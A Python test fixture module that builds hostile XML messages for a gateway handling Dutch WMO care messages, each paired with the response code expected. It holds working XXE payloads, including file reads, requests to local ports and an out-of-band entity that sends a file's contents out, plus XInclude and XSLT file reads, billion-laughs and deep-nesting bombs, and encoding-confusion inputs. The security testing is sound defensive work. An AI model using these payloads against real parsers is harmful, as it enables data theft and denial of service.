"""Messages that are meant to do harm, each with what a right gateway says of it. The big ones are made when needed."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from tests.cases import FIXTURES

CANARY: Final = "CANARY-7f3a91"
"""What stands in the file that no answer may tell of."""
PATIENT: Final = "999912008"
GOOD: Final = (FIXTURES / "vooraf" / "start-taakgericht-3.2.xml").read_text(encoding="utf-8")
"""A start that is accepted by itself."""
BODY: Final = GOOD.partition("?>\n")[2]
DECLARED: Final = '<?xml version="1.0" encoding="UTF-8"?>\n'
MEGABYTE: Final = 1024 * 1024
DEFERRED: Final = 202
"""Larger than the synchronous limit: kept, and judged later."""


@dataclass(frozen=True)
class Trap:
    """What an attack may try to reach: a file, and a port where nobody should ever call."""

    file: Path
    port: int


@dataclass(frozen=True)
class Attack:
    """A document that is meant to do harm.

    `status` and `code` are of `POST /v1/berichten`: the code of its problem, or the status of the message in the end.
    """

    name: str
    made: Callable[[Trap], bytes]
    status: int
    code: str


def _bsns() -> Iterator[str]:
    """Numbers of nobody that pass the check of a Bsn."""
    for number in range(999_900_000, 1_000_000_000):
        *others, last = map(int, str(number))
        if (sum(digit * weight for digit, weight in zip(others, range(9, 1, -1), strict=True)) - last) % 11 == 0:
            yield str(number)


_PATIENTS: Final = _bsns()


def fresh(body: bytes) -> bytes:
    """A message about another client than any before, under an identification of its own, in whatever encoding."""
    bsn = next(_PATIENTS)
    for encoding in ("utf-8", "utf-16-le", "utf-16-be"):
        for old, new in ((">V32-05<", f">E{bsn[4:]}<"), (f">{PATIENT}<", f">{bsn}<")):
            body = body.replace(old.encode(encoding), new.encode(encoding))
    return body


def in_name(text: str) -> str:
    """The good message with this for a surname."""
    return BODY.replace(">Proefstra<", f">{text}<")


def on_root(text: str) -> bytes:
    """The good message with this among the attributes of its root."""
    return (DECLARED + BODY.replace("<wmo305:Bericht ", f"<wmo305:Bericht {text} ", 1)).encode()


def in_client(text: str) -> bytes:
    """The good message with this as the first thing in its client."""
    return (DECLARED + BODY.replace("<wmo305:Client>", f"<wmo305:Client>{text}", 1)).encode()


def doctype(declarations: str, text: str = "&e;", root: str = "wmo305:Bericht") -> bytes:
    """The good message behind a DTD with these declarations."""
    return f"{DECLARED}<!DOCTYPE {root} [{declarations}]>{in_name(text)}".encode()


def retold(body: bytes, encoding: str, declared: str) -> bytes:
    """A message in UTF-8 in another encoding, with whatever it declares."""
    return body.decode().replace("UTF-8", declared).encode(encoding)


def _laughs(_: Trap) -> bytes:
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 40))
    return doctype(f'<!ENTITY e0 "ha">{levels}', "&e39;")


def _parameter_laughs(_: Trap) -> bytes:
    levels = "".join(f"<!ENTITY % e{n} '{f'&#37;e{n - 1};' * 10}'>" for n in range(1, 30))
    return doctype(f"<!ENTITY % e0 'ha'>{levels}%e29;", "x")


def _start_product(status: str) -> str:
    return (
        "<wmo305:StartProduct><wmo305:Product><iwmo:Categorie>01</iwmo:Categorie></wmo305:Product>"
        f"<wmo305:Begindatum>2023-02-30</wmo305:Begindatum><wmo305:StatusAanlevering>{status}"
        "</wmo305:StatusAanlevering></wmo305:StartProduct>"
    )


def _faults(_: Trap) -> bytes:
    return (
        DECLARED + BODY.replace("<wmo305:StartProducten>", "<wmo305:StartProducten>" + _start_product("7") * 15_000, 1)
    ).encode()


_XSI_NS: Final = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
_XSD_NS: Final = 'xmlns:xs="http://www.w3.org/2001/XMLSchema"'
_XINCLUDE: Final = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{}"/>'
_XSI: Final = f'{_XSI_NS} xsi:schemaLocation="urn:evil {{}}"'

REACHING: Final = (
    Attack("a file as entity", lambda t: doctype(f'<!ENTITY e SYSTEM "{t.file.as_uri()}">'), 400, "dtd"),
    Attack("a URL as entity", lambda t: doctype(f'<!ENTITY e SYSTEM "http://127.0.0.1:{t.port}/">'), 400, "dtd"),
    Attack("FTP as entity", lambda t: doctype(f'<!ENTITY e SYSTEM "ftp://127.0.0.1:{t.port}/x">'), 400, "dtd"),
    Attack(
        "a parameter entity from outside",
        lambda t: doctype(f'<!ENTITY % p SYSTEM "http://127.0.0.1:{t.port}/x.dtd">%p;', "x"),
        400,
        "dtd",
    ),
    Attack(
        "a parameter entity that sends a file",
        lambda t: doctype(
            f'<!ENTITY % f SYSTEM "{t.file.as_uri()}"><!ENTITY % s "<!ENTITY &#37; c SYSTEM '
            f"'http://127.0.0.1:{t.port}/?%f;'>\">%s;%c;",
            "x",
        ),
        400,
        "dtd",
    ),
    Attack(
        "a DTD from outside",
        lambda t: f'{DECLARED}<!DOCTYPE x SYSTEM "http://127.0.0.1:{t.port}/x.dtd">{BODY}'.encode(),
        400,
        "dtd",
    ),
    Attack(
        "a public DTD",
        lambda t: f'{DECLARED}<!DOCTYPE x PUBLIC "-//X" "{t.file.as_uri()}">{BODY}'.encode(),
        400,
        "dtd",
    ),
    Attack(
        "a DTD in UTF-16",
        lambda t: (
            doctype(f'<!ENTITY e SYSTEM "{t.file.as_uri()}">').decode().replace("UTF-8", "UTF-16").encode("utf-16")
        ),
        400,
        "dtd",
    ),
    Attack(
        "a DTD in UTF-16 without a mark",
        lambda t: (
            doctype(f'<!ENTITY e SYSTEM "{t.file.as_uri()}">').decode().replace("UTF-8", "UTF-16BE").encode("utf-16-be")
        ),
        400,
        "dtd",
    ),
    Attack(
        "an unparsed entity", lambda t: doctype('<!NOTATION n SYSTEM "x"><!ENTITY e SYSTEM "x" NDATA n>'), 400, "dtd"
    ),
    Attack("an attribute by default", lambda t: doctype('<!ATTLIST wmo305:Client x CDATA "y">', "x"), 400, "dtd"),
    Attack("an included file", lambda t: in_client(_XINCLUDE.format(t.file.as_uri())), 422, "IB014"),
    Attack("an included URL", lambda t: in_client(_XINCLUDE.format(f"http://127.0.0.1:{t.port}/")), 422, "IB014"),
    Attack("a schema from a URL", lambda t: on_root(_XSI.format(f"http://127.0.0.1:{t.port}/x")), 201, "accepted"),
    Attack("a schema from a file", lambda t: on_root(_XSI.format(t.file.as_uri())), 201, "accepted"),
    Attack(
        "a stylesheet",
        lambda t: (
            DECLARED + f'<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:{t.port}/x.xsl"?>' + BODY
        ).encode(),
        201,
        "accepted",
    ),
    Attack(
        "a stylesheet of its own",
        lambda t: (
            DECLARED + '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            f'<xsl:template match="/"><xsl:copy-of select="document(\'{t.file.as_uri()}\')"/></xsl:template>'
            "</xsl:stylesheet>"
        ).encode(),
        422,
        "IB004",
    ),
    Attack("a base elsewhere", lambda t: on_root(f'xml:base="http://127.0.0.1:{t.port}/"'), 422, "IB014"),
)
"""Those that try to reach a file or another machine."""

BOMBS: Final = (
    Attack("a thousand million laughs", _laughs, 400, "dtd"),
    Attack("laughs in parameters", _parameter_laughs, 400, "dtd"),
    Attack("quadratic blowup", lambda _: doctype(f'<!ENTITY e "{"x" * 100_000}">', "&e;" * 100_000), 400, "dtd"),
    Attack("an entity in itself", lambda _: doctype('<!ENTITY e "&f;"><!ENTITY f "&e;">'), 400, "dtd"),
    Attack("100,000 deep", lambda _: b"<a>" * 100_000, 400, "te-diep"),
    Attack("100,000 deep and back", lambda _: b"<a>" * 100_000 + b"</a>" * 100_000, 400, "te-diep"),
    Attack("100,000 deep in a client", lambda _: in_client("<x>" * 100_000 + "</x>" * 100_000), 400, "te-diep"),
    Attack(
        "10 MB of attributes", lambda _: on_root(" ".join(f'a{n}="{n:>20}"' for n in range(300_000))), 400, "attributen"
    ),
    Attack("an attribute of 20 MB", lambda _: on_root(f'a="{"x" * 20 * MEGABYTE}"'), 400, "geen-xml"),
    Attack("an attribute of 9 MB", lambda _: on_root(f'a="{"x" * 9 * MEGABYTE}"'), 202, "invalid"),
    Attack("a text of 20 MB", lambda _: (DECLARED + in_name("x" * 20 * MEGABYTE)).encode(), 400, "geen-xml"),
    Attack("a text of 9 MB", lambda _: (DECLARED + in_name("x" * 9 * MEGABYTE)).encode(), 202, "invalid"),
    Attack("a name of 9 MB", lambda _: in_client(f"<{'x' * 9 * MEGABYTE}/>"), 400, "geen-xml"),
    Attack("a comment of 20 MB", lambda _: in_client(f"<!--{'x' * 20 * MEGABYTE}-->"), 400, "geen-xml"),
    Attack(
        "CDATA of 9 MB", lambda _: (DECLARED + in_name(f"<![CDATA[{'<' * 9 * MEGABYTE}]]>")).encode(), 202, "invalid"
    ),
    Attack("an instruction of 9 MB", lambda _: in_client(f"<?x {'x' * 9 * MEGABYTE}?>"), 202, "accepted"),
    Attack("a million siblings", lambda _: in_client("<a/>" * 1_000_000), 202, "invalid"),
    Attack("a million comments", lambda _: in_client("<!---->" * 1_000_000), 202, "accepted"),
    Attack("30,000 faults", _faults, 202, "invalid"),
    Attack(
        "100,000 namespaces",
        lambda _: on_root(" ".join(f'xmlns:n{n}="urn:{n}"' for n in range(100_000))),
        202,
        "accepted",
    ),
    Attack("a namespace of 9 MB", lambda _: on_root(f'xmlns:n="urn:{"x" * 9 * MEGABYTE}"'), 202, "accepted"),
    Attack("a root namespace of 9 MB", lambda _: f'<a xmlns="urn:{"x" * 9 * MEGABYTE}"/>'.encode(), 422, "IB004"),
    Attack(
        "white space of 20 MB",
        lambda _: GOOD.encode().replace(b"<wmo305:Client>", b" " * 20 * MEGABYTE + b"<wmo305:Client>"),
        400,
        "geen-xml",
    ),
    Attack("25 MB of blanks", lambda _: b" " * 25 * MEGABYTE, 400, "leeg"),
    Attack("one byte too many", lambda _: b"<" * (25 * MEGABYTE + 1), 413, "IB012"),
)
"""Those that try to use up memory or time."""


GARBLED: Final = (
    Attack("an attribute twice", lambda _: on_root('a="1" a="2"'), 400, "geen-xml"),
    Attack(
        "an attribute twice by namespace", lambda _: on_root('xmlns:p="u" xmlns:q="u" p:a="1" q:a="2"'), 400, "geen-xml"
    ),
    Attack("a prefix without a namespace", lambda _: in_client("<p:a/>"), 400, "geen-xml"),
    Attack("the prefix xml for another namespace", lambda _: on_root('xmlns:xml="urn:x"'), 400, "geen-xml"),
    Attack("broken UTF-8", lambda _: GOOD.encode().replace(b"Proefstra", b"\xc3\x28"), 400, "tekencodering"),
    Attack("overlong UTF-8", lambda _: GOOD.encode().replace(b"Proefstra", b"\xc0\xbc"), 400, "tekencodering"),
    Attack("half a surrogate", lambda _: GOOD.encode().replace(b"Proefstra", b"\xed\xa0\x80"), 400, "tekencodering"),
    Attack("declared as UTF-7", lambda _: retold(GOOD.encode(), "utf-8", "UTF-7"), 400, "tekencodering"),
    Attack("in UTF-7", lambda _: GOOD.replace("UTF-8", "UTF-7").replace("<", "+ADw-").encode(), 400, "geen-xml"),
    Attack("declared as EBCDIC", lambda _: retold(GOOD.encode(), "utf-8", "IBM037"), 400, "tekencodering"),
    Attack("in EBCDIC", lambda _: retold(GOOD.encode(), "cp037", "IBM037"), 400, "tekencodering"),
    Attack("in UTF-32", lambda _: retold(GOOD.encode(), "utf-32", "UTF-32"), 400, "tekencodering"),
    Attack("declared as UTF-16", lambda _: retold(GOOD.encode(), "utf-8", "UTF-16"), 400, "geen-xml"),
    Attack("UTF-16 declared as UTF-8", lambda _: retold(GOOD.encode(), "utf-16", "UTF-8"), 201, "accepted"),
    Attack("declared as nothing known", lambda _: retold(GOOD.encode(), "utf-8", "x" * 1000), 400, "tekencodering"),
    Attack("a mark for another encoding", lambda _: b"\xfe\xff" + GOOD.encode(), 400, "geen-xml"),
    Attack("two marks", lambda _: b"\xef\xbb\xbf" * 2 + GOOD.encode(), 400, "geen-xml"),
    Attack("a null byte in a text", lambda _: GOOD.encode().replace(b"Proefstra", b"Proef\x00stra"), 400, "geen-xml"),
    Attack("null bytes behind it", lambda _: GOOD.encode() + b"\x00" * 1000, 400, "geen-xml"),
    Attack("only null bytes", lambda _: b"\x00" * 1000, 400, "leeg"),
    Attack("a null by its number", lambda _: (DECLARED + in_name("&#0;")).encode(), 400, "geen-xml"),
    Attack("a number past Unicode", lambda _: (DECLARED + in_name("&#x7fffffff;")).encode(), 400, "geen-xml"),
    Attack("XML 1.1", lambda _: GOOD.encode().replace(b'version="1.0"', b'version="1.1"'), 201, "accepted"),
    Attack("XML 2.0", lambda _: GOOD.encode().replace(b'version="1.0"', b'version="2.0"'), 400, "geen-xml"),
    Attack("two documents", lambda _: GOOD.encode() + GOOD.encode(), 400, "geen-xml"),
    Attack(
        "digits of another script", lambda _: (DECLARED + BODY.replace(PATIENT, "٩٩٩٩١٢٠٠٨")).encode(), 422, "IB014"
    ),
    Attack(
        "a number too long to count",
        lambda _: (DECLARED + BODY.replace(">418<", f">{'4' * 5000}<")).encode(),
        422,
        "IB014",
    ),
    Attack(
        "a type of its own",
        lambda _: (
            DECLARED + BODY.replace("<wmo305:Bsn>", f'<wmo305:Bsn {_XSI_NS} {_XSD_NS} xsi:type="xs:anyType">')
        ).encode(),
        422,
        "IB014",
    ),
    Attack(
        "nil",
        lambda _: (
            DECLARED + BODY.replace(f"<wmo305:Bsn>{PATIENT}<", f'<wmo305:Bsn {_XSI_NS} xsi:nil="true"><')
        ).encode(),
        422,
        "IB014",
    ),
)
"""Those that try to be read in two ways, or in none."""
